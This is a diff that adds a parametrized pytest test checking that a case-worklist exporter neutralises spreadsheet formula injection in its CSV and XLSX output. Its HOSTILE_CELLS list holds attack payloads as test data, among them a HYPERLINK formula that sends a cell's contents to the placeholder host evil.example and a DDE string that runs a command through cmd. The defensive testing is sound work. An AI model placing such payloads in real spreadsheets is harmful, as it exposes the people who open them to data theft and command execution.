@@ -77,3 +77,34 @@ def test_a_reviewers_decision_is_kept_until_new_files_arrive(tmp_path: Path):
         )
     assert decided_by_people(engine, {"wa-1": "files-v1", "wa-2": "files-v1"}) == {"wa-1"}
     assert decided_by_people(engine, {"wa-1": "files-v2"}) == set()  # the applicant sent more
+
+
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?x="&C2,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_CELLS)
+def test_worklist_never_holds_a_formula(hostile: str):
+    """OCR'd or reviewer-typed text that starts like a formula stays text in both exports."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from pipeline.cases.route import WORKLIST_COLUMNS, worklist_csv, worklist_xlsx
+
+    row = {c: hostile for c in WORKLIST_COLUMNS} | {"NIK": "6101014507890003"}
+    sheet = load_workbook(io.BytesIO(worklist_xlsx([row]))).active
+    cells = [cell for line in sheet.iter_rows(min_row=2) for cell in line]
+    assert all(cell.data_type == "s" for cell in cells)
+    assert not any(str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert "6101014507890003" in [cell.value for cell in cells]
+    [written] = list(csv.DictReader(io.StringIO(worklist_csv([row]).decode("utf-8-sig"))))
+    assert all(written[c] == "'" + hostile for c in WORKLIST_COLUMNS if c != "NIK")
+    assert written["NIK"] == "6101014507890003"
